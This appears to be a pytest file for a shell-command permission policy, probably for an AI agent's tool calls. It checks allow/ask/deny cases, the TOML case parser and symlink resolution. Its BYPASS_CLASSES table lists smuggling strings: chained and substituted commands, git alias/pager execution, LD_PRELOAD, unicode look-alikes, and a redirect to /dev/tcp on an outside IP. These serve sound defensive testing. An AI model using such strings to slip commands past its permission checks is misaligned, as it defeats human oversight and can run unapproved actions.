"""The table of cases, and that it has what it should have."""

from __future__ import annotations

from pathlib import Path

import pytest

from looping import for_each
from quarterdeck.policy.cases import BadCasesError, Case, LinkTable, read_cases

FILES = sorted((Path(__file__).parent / "cases").glob("*.toml"))
CASES = [case for file in FILES for case in read_cases(file.read_text(), file=file.name)]

BYPASS_CLASSES = {
    "compound commands": ["foo; id2", "foo && id2", "foo | id2"],
    "substituted commands": ["foo $(id2)", "foo `id2`", "foo <(id2)"],
    "quoting tricks": ["r''m x", "'rm' x", "npm run 'test'"],
    "git -c": ["git -c core.pager=id log", "git -c alias.x='!id' x"],
    "aliases and functions": ["alias x=foo", "function ls { id2; }; ls"],
    "flag smuggling": ["tar --to-command=id -xf a", "git log --output=/tmp/x", "foo -- -x bar"],
    "env prefixes": ["LD_PRELOAD=x.so foo", "PATH=/tmp foo"],
    "globbing": ["foo *", "/bin/r? x", "{foo,-x}"],
    "redirection": ["foo > a", "foo >| a", "foo > /dev/tcp/1.2.3.4/80"],
    "symlinks": ["Write(src/out/x)", "cat innocent"],
    "dot dot": ["Read(src/../../x)", "foo > src/../a"],
    "unicode look-alikes": ["\u0441at x", "rm\u200bx"],
    "newlines": ["foo\nid2", "rm\r\nx"],
    "comments": ["foo # \nid2", "ls # rm x"],
    "line continuation": ["r\\\nm x", "foo a\\\nb"],
    "ANSI-C quoting": ["$'\\x72m' x", "foo $'x'"],
    "here-strings and here-documents": ["bash <<< 'rm x'", "foo <<E\n$(id2)\nE"],
    "wrappers": ["sudo foo", "sh -c foo", "find . -exec foo {} +", "xargs foo", "env -S 'foo x'"],
}


@for_each("case", CASES, ids=[f"{case.about}: {case.request!r}" for case in CASES])
def test_the_case_is_decided_as_the_table_says(case: Case) -> None:
    decision = case.decide()

    assert decision.behavior == case.expected, decision.explanation


def test_the_table_is_large_enough_and_has_every_behavior() -> None:
    assert len(CASES) > 3_000
    for behavior in ("allow", "ask", "deny"):
        assert sum(case.expected == behavior for case in CASES) >= 100


@pytest.mark.parametrize("bypass", BYPASS_CLASSES)
def test_every_known_bypass_class_is_in_the_table(bypass: str) -> None:
    requests = {case.request for case in CASES}

    assert [wanted for wanted in BYPASS_CLASSES[bypass] if wanted not in requests] == []


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("[[group]", "not valid TOML"),
        ("x = 1", "expected [[group]] tables"),
        ("[[group]]\nabout = 'a'\nrule = 1", "unknown keys rule"),
        ("[[group]]\nexpect.maybe = ['x']", "expect has lists of strings"),
        ("[[group]]\nrules.allow = ['Bash(']", "the ( is not closed"),
        ("[[group]]\nexpect.allow = 'x'", "expect has lists of strings"),
    ],
)
def test_a_table_that_is_none_is_refused_with_the_reason(text: str, reason: str) -> None:
    with pytest.raises(BadCasesError) as caught:
        list(read_cases(text, file="cases.toml"))

    assert "cases.toml" in str(caught.value)
    assert reason in str(caught.value)


@pytest.mark.parametrize(
    ("path", "leads_to"),
    [
        ("/a/b", "/a/b"),
        ("/a/./b/../c", "/a/c"),
        ("/link/x", "/target/x"),
        ("/a/rel/x", "/a/b/x"),
        ("/a/up/x", "/x"),
        ("/loop/x", None),
        ("/..", "/"),
    ],
)
def test_the_link_table_follows_links_as_a_disk_would(path: str, leads_to: str | None) -> None:
    table = LinkTable({"/link": "/target", "/a/rel": "b", "/a/up": "..", "/loop": "/loop"})

    assert table.real(path) == leads_to
